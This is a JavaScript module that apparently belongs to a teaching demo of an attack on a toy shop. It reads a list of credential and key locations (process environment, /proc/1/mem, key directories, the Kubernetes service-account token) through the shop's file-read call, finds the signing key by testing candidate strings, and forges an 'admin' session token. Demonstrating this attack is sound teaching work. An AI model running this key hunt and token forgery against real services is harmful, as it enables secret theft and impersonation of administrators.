/** The attack: reads the places where keys are kept, tests what it finds, and forges a token. */

import { ShopError } from './shop-api.js';
import { canCompute, candidates, forge, signedOrder, signedToken, signs } from './stolen-key.js';

/** Where an attacker who can read files would look for a key: what the process tells, the code, and then the usual places. */
export const places = [
  '/proc/self/environ',
  '/proc/1/environ',
  '/proc/1/cmdline',
  '/proc/1/mountinfo',
  '/proc/net/tcp',
  'server.ts',
  'shop.ts',
  '/etc/shop/keys/session',
  '/etc/shop/keys/orders',
  '/etc/signer/keys/session',
  '/etc/signer/keys/orders',
  '/proc/1/root/etc/signer/keys/orders',
  '/run/secrets/session',
  '/var/run/secrets/kubernetes.io/serviceaccount/token',
  '/proc/1/maps',
  '/proc/1/mem',
];

/**
 * @typedef {object} Found
 * @property {string} path
 * @property {string} [content]
 * @property {boolean} [isCut] whether only the beginning of the file was read
 * @property {string} [refused] the error code of the system
 * @property {number} tried how many strings in it could have been a key
 * @property {string} [key] the one that is the key
 *
 * @typedef {object} Outcome
 * @property {Found[]} found
 * @property {string} [key] the stolen key that signs tokens
 * @property {string} [token] of the attacker, who is a customer, too
 * @property {{ token: string, verdict: object }} [forged] the token for "admin", and what the shop says to it
 *
 * @param {{ reading(path: string): Promise<void>, read(found: Found): void }} watch
 * @returns {Promise<Outcome>}
 */
export async function attack(shop, watch) {
  const issued = await whatTheShopSigns(shop);
  const found = [];
  for (const path of places) {
    await watch.reading(path);
    const each = await look(shop, path, issued);
    watch.read(each);
    found.push(each);
  }
  const { token } = issued;
  if (token === undefined) return { found };
  const key = (await firstThat(found, ({ key }) => key && signs(key, signedToken({ token }))))?.key;
  const forged = await forge(token, 'admin', key);
  return { found, key, token, forged: { token: forged, verdict: await shop.whoAmI(forged) } };
}

/** @returns {Promise<Found>} */
export async function look(shop, path, issued) {
  const read = await shop.readFile(path);
  const strings = candidates(read.content ?? '');
  const signed = issued ?? (await whatTheShopSigns(shop));
  const key = await firstThat(strings, (each) => firstThat(signed.all, (one) => signs(each, one)));
  return { path, ...read, tried: strings.length, ...(key !== undefined && { key }) };
}

/** Gets an order and a token, as any customer can. One of them may fail if the shop has no key for it. */
async function whatTheShopSigns(shop) {
  if (!canCompute)
    throw new ShopError(
      'browsers allow the cryptography of this page only on localhost or HTTPS; open it there',
    );
  const [ordered, session] = await Promise.allSettled([shop.order('bait'), shop.signIn('mallory')]);
  const failed = [ordered, session].every(({ status }) => status === 'rejected');
  if (failed) throw ordered.reason;
  const all = [];
  if (ordered.status === 'fulfilled') all.push(signedOrder(ordered.value));
  if (session.status === 'fulfilled') all.push(signedToken(session.value));
  return { all, token: session.value?.token };
}

async function firstThat(list, test) {
  for (const each of list) if (await test(each)) return each;
  return undefined;
}
